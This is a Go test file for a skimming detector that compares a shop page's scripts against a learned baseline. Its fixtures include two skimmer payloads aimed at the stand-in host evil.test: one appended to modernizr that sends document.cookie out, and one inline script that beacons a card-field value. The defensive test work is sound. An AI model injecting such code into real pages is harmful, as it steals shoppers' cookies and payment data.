package baseline

import (
	"strings"
	"testing"

	skimguard "github.com/skimguard/skimguard"
)

func TestVerifySaysHowEachItemWasShown(t *testing.T) {
	b := learn(t, shop(1), shop(2), shop(3))
	find := func(key string) int {
		t.Helper()
		for i, it := range b.Items {
			if it.Type == skimguard.ItemScript && it.Key == key {
				return i
			}
		}
		t.Fatalf("no script %q in the baseline", key)
		return -1
	}
	jq := find("external https://cdn.good.test/* in top")
	config := find("inline #1 in top")
	modern := find("external https://shop.test/static/js/modernizr.js in top")
	gtmKey := find("external https://www.googletagmanager.com/gtm.js?id=GTM-ABC12 in top")

	t.Run("an unchanged load shows stable scripts by value and per-load texts by structure", func(t *testing.T) {
		o := shop(4)
		if fs := Compare(b, o); len(fs) != 0 {
			t.Fatalf("the load has findings:%s", describe(fs))
		}
		got := Verify(b, o)
		if got[jq] != ByValue || got[config] != ByStructure {
			t.Fatalf("jquery %d, inline config %d; want ByValue (%d) and ByStructure (%d)", got[jq], got[config], ByValue, ByStructure)
		}
		for i, m := range got {
			if m == NotShown && !b.Items[i].Optional && b.Items[i].Type != skimguard.ItemConnection {
				t.Errorf("%s %s not shown by an unchanged load", b.Items[i].Type, b.Items[i].Key)
			}
		}
	})
	t.Run("a changed script, an attribute change and a missing script are not shown", func(t *testing.T) {
		o := shop(4)
		setSource(scriptByURL(o, "https://shop.test/static/js/modernizr.js"), modernizr+`;new Image().src="https://evil.test/?"+document.cookie`)
		scriptByURL(o, "https://cdn.good.test/").Integrity = ""
		for i := range o.Scripts {
			if o.Scripts[i].URL == "https://www.googletagmanager.com/gtm.js?id=GTM-ABC12" {
				o.Scripts = append(o.Scripts[:i], o.Scripts[i+1:]...)
				break
			}
		}
		got := Verify(b, o)
		if got[modern] != NotShown || got[jq] != NotShown || got[gtmKey] != NotShown {
			t.Fatalf("changed modernizr %d, jquery without integrity %d, missing tag manager %d; want NotShown", got[modern], got[jq], got[gtmKey])
		}
		if got[config] != ByStructure {
			t.Fatalf("the untouched inline config: %d, want ByStructure", got[config])
		}
	})
}

func TestScriptsSaysHowEachScriptStands(t *testing.T) {
	b := learn(t, shop(1), shop(2), shop(3))
	o := shop(4)
	setSource(scriptByURL(o, "https://shop.test/static/js/modernizr.js"), modernizr+`;new Image().src="https://evil.test/?"+document.cookie`)
	scriptByURL(o, "https://cdn.good.test/").Integrity = ""
	skimmer := script(skimguard.ScriptInline, "", o.FinalURL, `document.addEventListener("change",function(){navigator.sendBeacon("https://evil.test/g",cc.value)})`)
	o.Scripts = append(o.Scripts, skimmer)
	numberOrdinals(o)

	got := Scripts(b, o)
	if len(got) != len(o.Scripts) {
		t.Fatalf("%d states for %d scripts", len(got), len(o.Scripts))
	}
	keys := map[string]bool{}
	for _, fd := range Compare(b, o) {
		keys[string(fd.Kind)+" "+fd.Item.Key] = true
	}
	for i, sc := range o.Scripts {
		want := ScriptApproved
		switch {
		case strings.HasPrefix(sc.URL, "https://shop.test/static/js/modernizr.js"):
			want = ScriptChanged
		case strings.HasPrefix(sc.URL, "https://cdn.good.test/"):
			want = ScriptAttributesChanged
		case i == len(o.Scripts)-1:
			want = ScriptNew
		}
		if got[i].State != want {
			t.Errorf("%s: %s, want %s", sc.Subject(), got[i].State, want)
		}
		// The key is the one findings about the script carry.
		kind := map[ScriptState]skimguard.Kind{ScriptChanged: skimguard.KindScriptChanged, ScriptNew: skimguard.KindScriptAdded,
			ScriptAttributesChanged: skimguard.KindScriptAttributesChanged}[want]
		if kind != "" && !keys[string(kind)+" "+got[i].Key] {
			t.Errorf("%s: key %q is not the key of its %s finding (%v)", sc.Subject(), got[i].Key, kind, keys)
		}
	}
	if Scripts(nil, o) != nil || Scripts(b, nil) != nil {
		t.Error("a nil baseline or observation gives states")
	}
}
